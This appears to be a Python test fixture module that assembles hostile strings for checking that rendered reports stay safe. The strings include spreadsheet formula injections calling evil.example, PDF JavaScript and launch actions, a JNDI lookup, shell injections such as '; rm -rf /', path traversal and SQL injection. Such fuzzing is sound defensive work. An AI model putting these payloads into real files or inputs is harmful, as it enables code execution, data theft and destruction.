"""Strings made to break whoever shows them: a page, a sheet, a PDF, a header, a terminal."""

from __future__ import annotations

import unicodedata

from tests.central.reports.test_html_safety import PAYLOADS

CONTROLS = [
    f"a{chr(code)}b"
    for code in (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x200E, 0x200F, 0x2028, 0x2029, 0xFEFF)
]
TURNED = [f"a{chr(code)}b" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x061C)]
ESCAPES = [
    f"{start}{rest}"
    for start in ("\x1b", "\x9b", "\x1b[", "\x1b]", "\x1bP", "\x9d")
    for rest in ("0;owned\x07", "31mred", "2J", "8;;file:///etc/passwd\x1b\\x", "52;c;QQ==\x07")
]
FORMULAS = [
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff20", "'=")
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example","x")',
        'IMPORTXML("//evil.example","//a")',
        "DDE(1)",
        "SUM(A1:A9)*cmd|' /C x'!A0",
    )
]
SHEETS = ['a","b', 'a";"b', 'a\r\n"=1+1"', '"""', "a,=1+1", 'x"\n@SUM(1)', ";=1", "sep=;"]
PAPER = [
    ") Tj ET",
    "(\\) Tj",
    "endstream endobj",
    "1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj",
    "<< /Type /Action /S /Launch /F (calc.exe) >>",
    "/URI (http://evil.example)",
    "/OpenAction << /S /GoToR >>",
    "/EmbeddedFile",
    "%PDF-1.7",
    "%%EOF",
    "startxref 0",
    "trailer << /Root 1 0 R >>",
    "\\223\\051\\050",
    "<feff0041>",
    "BT /F1 12 Tf ET",
    "stream\r\nq 1 0 0 1 0 0 cm",
    '<link rel=attachment href="file:///etc/hostname">',
    '<link rel="attachment" href="http://127.0.0.1:9/x">',
    '<img src="file:///etc/hostname">',
    '<object data="file:///etc/hostname">',
    '<embed src="file:///etc/hostname">',
    "<style>@import 'file:///etc/hostname'</style>",
    "<style>@font-face{font-family:x;src:url(file:///etc/hostname)}</style>",
    '<svg><image href="file:///etc/hostname"/></svg>',
    '<p style="background:url(http://127.0.0.1:9/x)">',
    "<input value=x><button>x</button>",
    "<a rel=attachment href=file:///etc/hostname>x</a>",
    '<meta name="dcterms.created" content="1999">',
    "<title>another</title>",
    "<bookmark>",
]
LETTERS = [
    "x\r\nBcc: everybody@evil.example",
    "x\nSubject: owned",
    "=?utf-8?q?=0aBcc:_x?=",
    "x\r\n.\r\nMAIL FROM:<>",
    '"x" <y@evil.example>',
    "a\x00@b",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/stdin",
    "CON",
    "%s %n %x %d",
    "%(password)s",
    "{0.__class__}",
    "{page}",
    "{n} files",
    "${jndi:ldap://evil.example}",
    "`id`",
    "$(id)",
    "; rm -rf /",
    "' OR 1=1 --",
    "[red]x[/red]",
    "[link=file:///etc/passwd]x[/link]",
    ":smile:",
    "\\u0000",
    "NaN",
    "null",
    "1e999",
    "00000000",
    "newest complete restore point is 31 h old, 26 h allowed",
    "копия",
    "\u0130\u0131\ufb01",
    "e\u0301" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U000e0041\U000e0042",
    "\ufffe\uffff",
    "\ud83d",
    "z" * 5000,
    "\u0430" * 3000,
    "; " * 900,
    ", a" * 600,
    "1 file, " * 250,
]
HOSTILE = tuple(
    dict.fromkeys(
        PAYLOADS + CONTROLS + TURNED + ESCAPES + FORMULAS + SHEETS + PAPER + LETTERS,
    )
)


def commands(text: str) -> set[str]:
    """Return what steers a terminal, ends a line or turns the direction of writing."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
